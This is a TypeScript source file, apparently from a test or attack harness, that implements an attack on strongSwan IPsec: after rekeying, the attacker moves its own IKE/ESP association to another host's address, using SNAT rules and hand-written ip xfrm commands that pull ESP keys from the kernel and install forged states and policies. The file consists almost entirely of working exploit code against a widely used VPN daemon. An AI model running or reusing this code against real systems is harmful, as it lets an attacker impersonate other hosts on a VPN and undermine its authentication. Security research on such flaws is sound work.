import type { Attacker } from "./attacker";
import type { Claim } from "./connection";

/**
 * Gives the newest association the other address, in the attacker's kernel: charon there knows nothing of the move.
 * @param own the address that it was made with, `taken` the one that it is used with, `victim` the other end
 */
const USE_UNDER_ANOTHER_ADDRESS = (own: string, taken: string, victim: string) => `set -e
  spi() { swanctl --list-sas | awk -v side="$1" '/INSTALLED/ { there = 1 } there && $1 == side { sub(",", "", $2); print $2; exit }'; }
  key() { ip xfrm state | awk -v spi="spi 0x$1 " 'index($0, spi) { there = 1 } there && /aead/ { print $3; exit }'; }
  in=$(spi in) out=$(spi out)
  in_key=$(key "$in") out_key=$(key "$out")
  state() { ip xfrm state "$@" ; }
  state del src ${own} dst ${victim} proto esp spi "0x$out"
  state del src ${victim} dst ${own} proto esp spi "0x$in"
  cipher='rfc4106(gcm(aes))'
  # Far enough ahead of what was sent before.
  state add src ${taken} dst ${victim} proto esp spi "0x$out" reqid 77 mode transport aead "$cipher" "$out_key" 128 replay-oseq 1000
  state add src ${victim} dst ${taken} proto esp spi "0x$in" reqid 77 mode transport aead "$cipher" "$in_key" 128
  policy() { ip xfrm policy add src "$1" dst "$2" dir "$3" tmpl src "$1" dst "$2" proto esp reqid 77 mode transport; }
  policy ${taken} ${victim} out
  policy ${victim} ${taken} in`;

/**
 * Agrees on a link with a peer as itself, then moves it to the address of another host: charon follows the source of
 * the second request of an IKE SA wherever it comes from, and after a rekeying the requests are counted anew
 * (`process_message` in strongSwan's task_manager_v2.c). IPv4.
 * @returns a function that gives the address back, and ends everything
 */
export async function moveLink(
  attacker: Attacker,
  claim: Claim,
  taken: string,
): Promise<() => Promise<void>> {
  const { host } = attacker;
  await attacker.initiate([claim]);
  await host.text(`swanctl --rekey --ike ${claim.name}`);
  await host.text("sleep 1");
  const giveBack = await attacker.pose([taken]);
  await host.text(`
    iptables-legacy -t nat -A POSTROUTING -s ${claim.local} -d ${claim.remote} -p udp -j SNAT --to-source ${taken}
    conntrack -D -p udp >/dev/null 2>&1
    swanctl --rekey --child all
    sleep 1`);
  await host.text(USE_UNDER_ANOTHER_ADDRESS(claim.local, taken, claim.remote));
  return async () => {
    await host.text("iptables-legacy -t nat -F; ip xfrm policy flush; ip xfrm state flush");
    await giveBack();
  };
}
